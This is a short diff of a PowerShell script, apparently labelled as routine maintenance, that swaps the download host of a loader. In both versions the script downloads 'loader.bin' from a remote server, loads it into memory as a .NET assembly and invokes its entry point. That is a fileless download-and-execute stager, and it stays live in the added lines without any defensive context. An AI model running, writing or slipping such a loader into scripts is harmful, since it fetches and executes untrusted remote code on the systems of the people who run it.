@@ -1,4 +1,4 @@
-# maintenance 0272 v0
-$b = (New-Object Net.WebClient).DownloadData('http://files.sync-svc.example/loader.bin')
+# run 4835 v0
+$b = (New-Object Net.WebClient).DownloadData('http://repo.pkg-mirror.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
